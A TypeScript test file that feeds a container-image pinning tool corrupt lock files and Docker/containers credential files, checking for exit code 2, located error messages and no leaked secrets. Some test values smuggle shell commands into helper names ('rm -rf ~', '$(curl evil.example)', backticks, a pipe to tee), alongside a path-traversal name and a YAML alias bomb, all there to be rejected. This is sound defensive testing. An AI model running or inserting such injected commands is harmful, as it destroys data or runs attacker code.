/**
 * Bad input (issue 4 §7): a corpus of broken lock files and broken Docker config / containers
 * auth.json files. Each is bad input: exit 2 (LockError, AuthConfigError), a message naming the file and the line
 * and key path where there is one, and never a secret from the file. Locks go through parseLock
 * and through the CLI (which must also leave the broken lock untouched); credential files through
 * credentialStore, the way a run reads them. serialize.test.ts and credentials.test.ts hold the
 * first few cases of each (lockVersion 7, a short digest, truncation, unknown key, held without
 * tag, empty; not-JSON, auth without a colon, a helper name with a space, auths as an array).
 */
import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.js';
import { AuthConfigError, ExitCode, LockError } from '../../src/errors.js';
import { parseLock, readLock } from '../../src/lock/read.js';
import { credentialStore } from '../../src/registry/credentials.js';
import { ROOT } from '../helpers/cli.js';
import { removeTempDirs, tempDir } from '../helpers/tmp.js';

const tmp = () => tempDir('lgp-bad-input-');
afterAll(() => {
  removeTempDirs();
});

const FILE = '/work/lg-pins.lock.yaml';
const GOOD = readFileSync(join(ROOT, 'lg-pins.lock.yaml'), 'utf8');
const INDEX = 'sha256:e763b4bf2da94c69be146ad1634db18cd84b84b6f3e70ebf29e366f8233b38d8';
const RISCV = 'agent: { platform: linux/riscv64, digest: sha256:5a550b42c36ec58aae1b865df75518433928a776dafe22b2ba27e8319d11b0de }';

/** Replace exactly one occurrence (so that a corpus entry cannot silently stop being broken). */
function edit(text: string, from: string | RegExp, to: string): string {
  const hits =
    typeof from === 'string'
      ? text.split(from).length - 1
      : (text.match(new RegExp(from.source, `${from.flags.replace('g', '')}g`)) ?? []).length;
  if (hits !== 1) throw new Error(`corpus edit: ${String(from)} matches ${hits} times`);
  return text.replace(from, to);
}

function lockError(text: string): LockError {
  try {
    parseLock(text, FILE);
  } catch (e) {
    expect(e).toBeInstanceOf(LockError);
    return e as LockError;
  }
  throw new Error('parseLock accepted a broken lock');
}

describe('broken locks: parseLock', () => {
  // [name, text, every issue as `line:column: path: message` (regexes anchored on the file)]
  const cases: Array<[string, string, RegExp[]]> = [
    [
      'a renamed key (ref → reference)',
      edit(GOOD, '    ref: oci', '    reference: oci'),
      [/^:4:3: images\.agent: missing required key "ref"$/, /^:5:5: images\.agent\.reference: unknown key "reference"$/],
    ],
    [
      'a misspelt top-level key',
      edit(GOOD, 'images:', 'imagez:'),
      [/^:2:1: missing required key "images"$/, /^:3:1: imagez: unknown key "imagez" \(did you mean "images"\?\)$/],
    ],
    [
      'lockVersion as a string',
      edit(GOOD, 'lockVersion: 1', 'lockVersion: "1"'),
      [/^:2:14: lockVersion: "1" is not supported; the only value is 1$/],
    ],
    ['lockVersion missing', edit(GOOD, 'lockVersion: 1\n', ''), [/^:2:1: missing required key "lockVersion"$/]],
    [
      'lockVersion 0',
      edit(GOOD, 'lockVersion: 1', 'lockVersion: 0'),
      [/^:2:14: lockVersion: lockVersion 0 is not supported by this lg-pins/],
    ],
    [
      'a sha256 digest in uppercase hex',
      edit(GOOD, INDEX, INDEX.toUpperCase().replace('SHA256', 'sha256')),
      [
        /^:7:13: images\.agent\.digest: "sha256:E763B4BF2DA9[0-9A-F]{52}" is not valid \(a digest is sha256: and 64 lowercase hex characters\)$/,
      ],
    ],
    [
      'a sha512 digest of sha256 length',
      edit(GOOD, INDEX, `sha512:${'a'.repeat(64)}`),
      [/^:7:13: images\.agent\.digest: "sha512:a{64}" is not valid/],
    ],
    [
      'an md5 digest',
      edit(GOOD, INDEX, 'md5:d41d8cd98f00b204e9800998ecf8427e'),
      [/^:7:13: images\.agent\.digest: "md5:d41d8cd98f00b204e9800998ecf8427e" is not valid/],
    ],
    [
      'a fleet pin digest with a stray character',
      edit(GOOD, RISCV, RISCV.replace('sha256:5a550b42c36e', 'sha256:5a550b42c36g')),
      [/^:34:\d+: fleet\.riscv-lab\.agent\.digest: "sha256:5a550b42c36g[0-9a-f]{52}" is not valid/],
    ],
    [
      'a platform key that is not os/arch[/variant]',
      edit(GOOD, '      linux/arm/v7:', '      Linux/ARM v7:'),
      [/^:14:7: images\.agent\.platforms\.Linux\/ARM v7: platform "Linux\/ARM v7" must be os\/arch\[\/variant\], e\.g\. linux\/arm\/v7$/],
    ],
    [
      'a fleet pin whose platform is garbage',
      edit(GOOD, 'platform: linux/amd64,', 'platform: "amd64 please",'),
      [/^:30:\d+: fleet\.datacenter\.agent\.platform: "amd64 please" is not valid \(a platform is os\/arch\[\/variant\]/],
    ],
    [
      'a group id that is not an id',
      edit(GOOD, '  edge:\n', '  Edge!:\n'),
      [/^:31:3: fleet\.Edge!: group id "Edge!" must be lowercase letters/],
    ],
    [
      'held without tag',
      edit(GOOD, RISCV, RISCV.replace(' }', ', held: "gone" }')),
      [/^:34:\d+: fleet\.riscv-lab\.agent\.held: "held" needs "tag"$/],
    ],
    [
      'index without tag',
      edit(GOOD, RISCV, RISCV.replace(' }', `, index: sha256:${'a'.repeat(64)} }`)),
      [/^:34:\d+: fleet\.riscv-lab\.agent\.index: "index" needs "tag"$/],
    ],
    [
      'a list where the images map belongs',
      'lockVersion: 1\nimages:\n  - agent\n  - tools\n',
      [/^:3:3: images: must be an object, got \["agent","tools"\]$/],
    ],
    [
      'a list where a group map belongs',
      edit(GOOD, / {2}edge:\n {4}agent: \{[^\n]*\}/, '  edge:\n    - agent'),
      [/^:32:5: fleet\.edge: must be an object, got \["agent"\]$/],
    ],
    [
      'platforms emptied',
      `lockVersion: 1\nimages:\n  a:\n    ref: r.example/a\n    tag: v1\n    digest: ${INDEX}\n    mediaType: m\n    platforms: {}\n`,
      [/^:8:5: images\.a\.platforms: needs at least 1 entry$/],
    ],
    [
      'a negative size',
      edit(GOOD, /size: 401\n {6}linux\/arm\/v7/, 'size: -1\n      linux/arm/v7'),
      [/^:13:15: images\.agent\.platforms\.linux\/amd64\.size: -1 must be >= 0$/],
    ],
    [
      'a size in quotes',
      edit(GOOD, /size: 401\n {6}linux\/arm\/v7/, 'size: "401"\n      linux/arm/v7'),
      [/^:13:15: images\.agent\.platforms\.linux\/amd64\.size: must be an integer, got "401"$/],
    ],
    [
      'a duplicate key',
      edit(GOOD, 'lockVersion: 1', 'lockVersion: 1\nlockVersion: 1'),
      [/^:3:1: lockVersion: duplicate key "lockVersion"; a key may appear only once in a mapping \(the lock is damaged/],
    ],
    [
      'tab indentation',
      edit(GOOD, '  agent:\n    ref:', '\tagent:\n    ref:'),
      [/^:4:1: Tabs are not allowed as indentation .*\(the lock is damaged/],
    ],
    ['a second YAML document', `${GOOD}---\nlockVersion: 1\n`, [/^:\d+:1: a second YAML document starts here/]],
    ['a bare scalar', 'just some text\n', [/^:1:1: must be an object, got "just some text"$/]],
    ['a top-level list', '- lockVersion: 1\n- images: {}\n', [/^:1:1: must be an object, got \[/]],
    [
      'binary garbage',
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0xff, 0xfe, 0x01, 0x7f]).toString('latin1'),
      [/^:1:1: must be an object, got "/],
    ],
    [
      'an alias bomb',
      'a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n',
      [/^:1:1: cannot expand the YAML aliases/],
    ],
  ];

  it.each(cases)('%s', (_name, text, expected) => {
    const err = lockError(text);
    expect(err.exitCode).toBe(ExitCode.badInput);
    const lines = err.message.split('\n');
    expect(lines).toHaveLength(expected.length);
    lines.forEach((line, i) => {
      expect(line.startsWith(FILE)).toBe(true);
      expect(line.slice(FILE.length)).toMatch(expected[i]!);
    });
  });

  it('reads a lock that is a directory as bad input naming it', async () => {
    const dir = join(tmp(), 'lg-pins.lock.yaml');
    mkdirSync(dir);
    const err = await readLock(dir).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(LockError);
    expect((err as LockError).message).toMatch(
      new RegExp(`^${dir}: cannot read the lock: it is a directory; a lock must be a regular file`),
    );
  });
});

describe('broken locks through the CLI', () => {
  /** The bundled (offline) example with `lock` as its lock file. */
  function example(lock: string): string {
    const dir = tmp();
    cpSync(join(ROOT, 'lg-pins.yaml'), join(dir, 'lg-pins.yaml'));
    cpSync(join(ROOT, 'examples'), join(dir, 'examples'), { recursive: true });
    writeFileSync(join(dir, 'lg-pins.lock.yaml'), lock);
    return dir;
  }
  async function run(args: string[], cwd: string) {
    let stdout = '';
    let stderr = '';
    const code = await main(args, {
      stdout: { write: (s: string) => (stdout += s) },
      stderr: { write: (s: string) => (stderr += s) },
      cwd,
      env: { NO_COLOR: '1' },
    });
    return { code, stdout, stderr };
  }

  const broken = [
    ['lockVersion as a string', edit(GOOD, 'lockVersion: 1', 'lockVersion: "1"'), ':2:14: lockVersion: "1" is not supported'],
    ['an uppercase digest', edit(GOOD, INDEX, INDEX.replace('e763b4bf', 'E763B4BF')), ':7:13: images.agent.digest: "sha256:E763B4BF'],
    [
      'a truncated file',
      GOOD.slice(0, GOOD.indexOf('    mediaType: application/vnd.oci.image.index') + 10),
      ':8:5: Implicit map keys need to be followed by map values',
    ],
  ] as const;

  it.each(broken)('lock, check and pins refuse %s with exit 2 and leave the file alone', async (_name, text, where) => {
    const dir = example(text);
    for (const cmd of [['lock'], ['check'], ['pins', '--host', 'web-01', '--image', 'agent'], ['lock', '--dry-run']]) {
      const r = await run(cmd, dir);
      expect(r.code, `${cmd.join(' ')}: ${r.stderr}`).toBe(2);
      expect(r.stderr).toContain(`error: ${join(dir, 'lg-pins.lock.yaml')}${where}`);
      expect(r.stderr).not.toMatch(/\n\s+at .+:\d+:\d+/);
    }
    expect(readFileSync(join(dir, 'lg-pins.lock.yaml'), 'utf8')).toBe(text);
  });

  it('--json gives one document with the exit code and the located issues', async () => {
    const dir = example(edit(GOOD, 'images:', 'imagez:'));
    const r = await run(['lock', '--json'], dir);
    expect(r.code).toBe(2);
    const doc = JSON.parse(r.stdout) as {
      error: { exitCode: number; issues: Array<{ file: string; line: number; column: number; path: string; message: string }> };
    };
    expect(doc.error.exitCode).toBe(2);
    expect(doc.error.issues).toEqual([
      { file: join(dir, 'lg-pins.lock.yaml'), line: 2, column: 1, path: '', message: 'missing required key "images"' },
      {
        file: join(dir, 'lg-pins.lock.yaml'),
        line: 3,
        column: 1,
        path: 'imagez',
        message: 'unknown key "imagez" (did you mean "images"?)',
      },
    ]);
  });
});

describe('broken Docker config.json and containers auth.json', () => {
  const SECRET = 'Sup3r-s3cret-never-quoted';
  const secretAuth = Buffer.from(`robot:${SECRET}`).toString('base64');
  const spellings = [SECRET, secretAuth, secretAuth.slice(0, 12)];

  /** The error reading `text` as $DOCKER_CONFIG/config.json, and the file's path. */
  async function dockerError(text: string): Promise<{ err: AuthConfigError; file: string }> {
    const dir = tmp();
    const file = join(dir, 'config.json');
    writeFileSync(file, text);
    const err = await credentialStore({ DOCKER_CONFIG: dir, HOME: tmp() })('reg.example:5000').then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(err, 'a broken file must be refused').toBeInstanceOf(AuthConfigError);
    return { err: err as AuthConfigError, file };
  }

  const withSecret = (extra: object) => JSON.stringify({ auths: { 'reg.example:5000': { auth: secretAuth } }, ...extra });
  // [name, text, message after `<file>`]
  const cases: Array<[string, string, RegExp]> = [
    ['the top level is a list', JSON.stringify([{ auths: {} }]), /^: must be a JSON object$/],
    ['the top level is null', 'null', /^: must be a JSON object$/],
    ['the top level is a string', JSON.stringify(secretAuth), /^: must be a JSON object$/],
    ['auths is a string', JSON.stringify({ auths: secretAuth }), /^: "auths" must be an object$/],
    ['auths is a number', JSON.stringify({ auths: 5000 }), /^: "auths" must be an object$/],
    [
      'auth is user:password not base64-encoded',
      JSON.stringify({ auths: { 'reg.example:5000': { auth: `robot:${SECRET}` } } }),
      /^: auths\."reg\.example:5000"\.auth is not base64 of "user:password"$/,
    ],
    [
      'auth is base64 of the password alone',
      JSON.stringify({ auths: { 'reg.example:5000': { auth: Buffer.from(SECRET).toString('base64') } } }),
      /^: auths\."reg\.example:5000"\.auth is not base64 of "user:password"$/,
    ],
    ['credHelpers is a list', withSecret({ credHelpers: ['pass'] }), /^: "credHelpers" must be an object$/],
    [
      'a credHelpers value is a number',
      withSecret({ credHelpers: { 'reg.example:5000': 42 } }),
      /^: credHelpers\."reg\.example:5000" must name a helper \(docker-credential-<name>\)$/,
    ],
    [
      'a credHelpers value is an object',
      withSecret({ credHelpers: { 'reg.example:5000': { name: 'pass' } } }),
      /^: credHelpers\."reg\.example:5000" must name a helper/,
    ],
    [
      'a credHelpers value is null',
      withSecret({ credHelpers: { 'reg.example:5000': null } }),
      /^: credHelpers\."reg\.example:5000" must name a helper/,
    ],
    [
      'a credHelpers value is a path',
      withSecret({ credHelpers: { 'reg.example:5000': '../../tmp/evil' } }),
      /^: credHelpers\."reg\.example:5000" must name a helper/,
    ],
    [
      'credsStore with a command separator',
      withSecret({ credsStore: 'desktop; rm -rf ~' }),
      /^: "credsStore" must name a helper \(docker-credential-<name>\)$/,
    ],
    ['credsStore with a command substitution', withSecret({ credsStore: '$(curl evil.example)' }), /^: "credsStore" must name a helper/],
    ['credsStore with backticks', withSecret({ credsStore: '`id`' }), /^: "credsStore" must name a helper/],
    ['credsStore with a pipe', withSecret({ credsStore: 'pass|tee /tmp/x' }), /^: "credsStore" must name a helper/],
    ['credsStore that is a number', withSecret({ credsStore: 7 }), /^: "credsStore" must name a helper/],
    ['a trailing comma', `{"auths": {"reg.example:5000": {"auth": "${secretAuth}"},}}`, /^:1:\d+: not valid JSON; fix or remove it$/],
    [
      'cut short after a secret',
      `{"auths": {"reg.example:5000": {"auth": "${secretAuth}"`,
      /^(:\d+:\d+)?: not valid JSON; fix or remove it$/,
    ],
    ['an unquoted secret', `{"auths": {"reg.example:5000": {"auth": ${secretAuth}}}}`, /^(:\d+:\d+)?: not valid JSON; fix or remove it$/],
    [
      'a YAML file in its place',
      `auths:\n  reg.example:5000:\n    auth: ${secretAuth}\n`,
      /^(:\d+:\d+)?: not valid JSON; fix or remove it$/,
    ],
    ['binary garbage', '\u0089PNG\r\n\u001a\n\u0000\u0000', /^(:\d+:\d+)?: not valid JSON; fix or remove it$/],
  ];

  it.each(cases)('%s', async (_name, text, message) => {
    const { err, file } = await dockerError(text);
    expect(err.exitCode).toBe(ExitCode.badInput);
    expect(err.message.startsWith(file)).toBe(true);
    expect(err.message.slice(file.length)).toMatch(message);
    for (const s of spellings) expect(err.message).not.toContain(s);
    expect(err.message).not.toContain('rm -rf');
  });

  it('a broken containers auth.json is named, whichever way it was found', async () => {
    const explicit = join(tmp(), 'auth.json');
    writeFileSync(explicit, JSON.stringify({ auths: { 'quay.example/team': { auth: 'bm90LWEtcGFpcg==' } } }));
    const viaEnv = await credentialStore({ REGISTRY_AUTH_FILE: explicit, HOME: tmp() })('quay.example', 'team/app').catch(
      (e: unknown) => e,
    );
    expect(viaEnv).toBeInstanceOf(AuthConfigError);
    expect((viaEnv as Error).message).toBe(`${explicit}: auths."quay.example/team".auth is not base64 of "user:password"`);

    const run = tmp();
    mkdirSync(join(run, 'containers'));
    writeFileSync(join(run, 'containers', 'auth.json'), JSON.stringify({ auths: [] }));
    const viaRuntime = await credentialStore({ XDG_RUNTIME_DIR: run, HOME: tmp() })('quay.example').catch((e: unknown) => e);
    expect((viaRuntime as Error).message).toBe(`${join(run, 'containers', 'auth.json')}: "auths" must be an object`);
  });

  it('a broken DOCKER_AUTH_CONFIG is named by its variable, never shown', async () => {
    const err = await credentialStore({ DOCKER_AUTH_CONFIG: `{"auths": {"r.example": {"auth": "${secretAuth}"}}`, HOME: tmp() })(
      'r.example',
    ).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(AuthConfigError);
    expect((err as Error).message).toMatch(/^\$DOCKER_AUTH_CONFIG(:\d+:\d+)?: not valid JSON; fix or remove it$/);
    const shape = await credentialStore({ LG_PINS_REGISTRY_AUTH: JSON.stringify({ credHelpers: { 'r.example': 'a b' } }), HOME: tmp() })(
      'r.example',
    ).catch((e: unknown) => e);
    expect((shape as Error).message).toBe('$LG_PINS_REGISTRY_AUTH: credHelpers."r.example" must name a helper (docker-credential-<name>)');
  });
});
